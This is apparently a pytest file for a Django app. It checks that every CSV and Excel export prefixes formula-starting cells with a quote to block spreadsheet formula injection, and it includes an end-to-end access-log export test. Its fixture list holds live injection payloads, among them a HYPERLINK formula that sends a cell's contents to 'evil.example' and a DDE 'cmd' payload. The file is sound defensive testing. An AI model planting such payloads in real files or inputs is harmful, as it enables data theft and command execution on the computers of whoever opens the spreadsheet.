"""No CSV or Excel file the product writes holds a cell a spreadsheet would evaluate (OWASP CSV injection): the shared
writers every export goes through, over many hostile strings (hypothesis), and the access-log export end to end."""

from __future__ import annotations

import ast
import csv
import io
from pathlib import Path

import pytest
from django.urls import reverse
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from safer.core import spreadsheets
from safer.core.audit import record_access
from safer.core.models import AccessAction, Job, JobStatus

HOSTILE = [
    '=HYPERLINK("http://evil.example/?d="&A3,"x")',
    "=cmd|' /C calc'!A0",
    "@SUM(1)",
    "+SUM(1)",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "\uff1dSUM(1)",  # full-width =
    "\uff20SUM(1)",  # full-width @
    "+\u0966",  # a sign and a Devanagari zero: a number to Python, not to a spreadsheet (hypothesis found it)
]
FORMULA_STARTS = frozenset("=+-@\uff1d\uff0b\uff0d\uff20")


def evaluated(cell: str) -> bool:
    """Whether a spreadsheet opening this text would run it as a formula that can call or refer to anything.

    Text that begins with a quote is text; a number with a sign is only a number."""
    if cell.startswith("'"):
        return False
    if cell[:1] in ("\t", "\r", "\0"):
        return True
    if cell.lstrip()[:1] not in FORMULA_STARTS:
        return False
    return not set(cell) <= set("0123456789+-.eE")


# Strings as a partner's file or a form could hold them: beginning with what starts a formula.
hostile_strings = st.builds(
    lambda lead, space, start, rest: lead + space + start + rest,
    st.sampled_from(["", "\t", "\r"]),
    st.sampled_from(["", " ", "  ", "\u3000"]),
    st.sampled_from(["=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20"]),
    st.text(st.characters(blacklist_categories=("Cs", "Cc", "Cn")), max_size=30),
)
cells = st.one_of(
    hostile_strings,
    st.text(st.characters(blacklist_categories=("Cs", "Cc", "Cn")), max_size=20),
    st.integers(min_value=-(10**12), max_value=10**12),
    st.floats(allow_nan=False, allow_infinity=False, min_value=-1e12, max_value=1e12),
    st.none(),
)
tables = st.lists(st.lists(cells, min_size=1, max_size=4), min_size=1, max_size=6)
many = settings(max_examples=100, suppress_health_check=[HealthCheck.too_slow], deadline=None)
fewer = settings(max_examples=40, suppress_health_check=[HealthCheck.too_slow], deadline=None)  # a workbook each


@pytest.mark.parametrize("value", HOSTILE)
def test_a_hostile_string_gets_a_quote_in_front_and_comes_back_unchanged(value: str) -> None:
    assert spreadsheets.neutralise(value) == "'" + value
    assert spreadsheets.restore(spreadsheets.neutralise(value)) == value


@pytest.mark.parametrize("value", ["Noise", "", "A1", "-5", "-0.5", "+44", "1e-3", "'=already text", "Mid-way = fine"])
def test_text_and_numbers_written_as_text_stay_as_they_are(value: str) -> None:
    assert spreadsheets.neutralise(value) == value
    assert spreadsheets.restore(value) == value or value == "'=already text"  # that one is restored to =already text


def read_csv(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def assert_csv_safe(rows: list[list[object]], parsed: list[list[str]]) -> None:
    assert len(parsed) == len(rows) + 1
    for row, back in zip(rows, parsed[1:], strict=True):
        for value, cell in zip(row, back, strict=True):
            assert not evaluated(cell), (value, cell)
            if isinstance(value, str):
                assert cell in (value, "'" + value)
            elif isinstance(value, int):
                assert int(cell) == value  # a negative number stays a number


@given(tables)
@many
def test_csv_response_never_holds_a_formula(rows: list[list[object]]) -> None:
    width = max(len(r) for r in rows)
    header = [f"c{i}" for i in range(width)]
    response = spreadsheets.csv_response("table", header, rows)  # type: ignore[arg-type]
    assert_csv_safe(rows, read_csv(response.content))


@given(tables)
@many
def test_csv_bytes_and_the_csv_writer_never_hold_a_formula(rows: list[list[object]]) -> None:
    width = max(len(r) for r in rows)
    assert_csv_safe(rows, read_csv(spreadsheets.csv_bytes([f"c{i}" for i in range(width)], rows)))
    out = io.StringIO(newline="")
    writer = spreadsheets.CsvWriter(out)
    writer.writerow(["header"])
    writer.writerows(rows)
    assert_csv_safe(rows, read_csv(out.getvalue().encode()))


def assert_xlsx_safe(rows: list[list[object]], content: bytes, first_row: int = 2) -> None:
    sheet = load_workbook(io.BytesIO(content)).worksheets[0]
    for r, row in enumerate(rows, start=first_row):
        for c, value in enumerate(row, start=1):
            cell = sheet.cell(r, c)
            assert cell.data_type != "f", (value, cell.value)
            if isinstance(value, str) and value:
                assert cell.data_type == "s"
                assert not evaluated(cell.value), (value, cell.value)
                if evaluated(value):
                    assert cell.value.startswith("'")
            elif isinstance(value, int | float):
                assert cell.data_type == "n" and cell.value == pytest.approx(value)


@given(tables, st.lists(hostile_strings, max_size=2))
@fewer
def test_xlsx_response_never_holds_a_formula(rows: list[list[object]], notes: list[str]) -> None:
    width = max(len(r) for r in rows)
    response = spreadsheets.xlsx_response("table", "Sheet", [f"c{i}" for i in range(width)], rows, notes)  # type: ignore[arg-type]
    assert_xlsx_safe(rows, response.content)
    sheet = load_workbook(io.BytesIO(response.content)).worksheets[0]
    for i, note in enumerate(notes, start=len(rows) + 3):
        assert sheet.cell(i, 1).data_type == "s" and not evaluated(sheet.cell(i, 1).value), note


@given(tables)
@fewer
def test_the_excel_cell_writer_never_writes_a_formula(rows: list[list[object]]) -> None:
    buffer = io.BytesIO()
    book = spreadsheets.new_workbook(buffer)
    sheet = book.add_worksheet("Sheet")
    for r, row in enumerate(rows):
        if r % 2:
            spreadsheets.write_row(sheet, r, 0, row)
        else:
            for c, value in enumerate(row):
                spreadsheets.write_cell(sheet, r, c, value)
        sheet.write(r, len(row) + 1, "=1+1")  # even plain write() of such a string, in a workbook made here
    book.close()
    assert_xlsx_safe(rows, buffer.getvalue(), first_row=1)
    sheet_back = load_workbook(io.BytesIO(buffer.getvalue())).worksheets[0]
    assert all(cell.data_type != "f" for row in sheet_back.iter_rows() for cell in row)


SAFER = Path(__file__).resolve().parents[2]
WRITERS = {("csv", "writer"), ("csv", "DictWriter"), ("xlsxwriter", "Workbook"), ("openpyxl", "Workbook")}


def test_every_csv_and_excel_file_is_written_through_the_shared_writers() -> None:
    """The properties above hold for every export only while no module builds its own writer."""
    own_writers = []
    for path in SAFER.rglob("*.py"):
        relative = path.relative_to(SAFER).as_posix()
        if "/tests/" in relative or relative in {"core/spreadsheets.py", "intelligence/demo.py"}:
            continue  # the shared place; the demo's input files (police.uk-style CSV read back by the importers)
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            if (
                isinstance(node, ast.Attribute)
                and isinstance(node.value, ast.Name)
                and (node.value.id, node.attr) in WRITERS
            ):
                own_writers.append(f"{relative}:{node.lineno} {node.value.id}.{node.attr}")
    assert own_writers == []


@pytest.mark.django_db
def test_the_access_log_export_neutralises_what_people_typed(client, sign_in, partnership, dpo, caseworker_a, council):
    for purpose, detail in zip(HOSTILE, reversed(HOSTILE), strict=True):
        record_access(
            action=AccessAction.VIEW,
            actor=caseworker_a,
            partnership=partnership,
            agency=council,
            object_type="case",
            object_id=101,
            purpose=purpose,
            detail=detail,
        )
    sign_in(client, dpo)
    response = client.post(reverse("core:access-log-export"), {"person": str(caseworker_a.pk)})
    job = Job.objects.get(created_by=dpo)
    assert response.status_code == 302 and job.status == JobStatus.SUCCEEDED
    download = client.get(reverse("core:job-download", args=[job.pk]))
    rows = read_csv(b"".join(download.streaming_content))
    header = rows[0]
    purposes = [row[header.index("purpose")] for row in rows[1:]]
    details = [row[header.index("detail")] for row in rows[1:]]
    assert sorted(purposes) == sorted("'" + v for v in HOSTILE)
    assert sorted(details) == sorted("'" + v for v in HOSTILE)
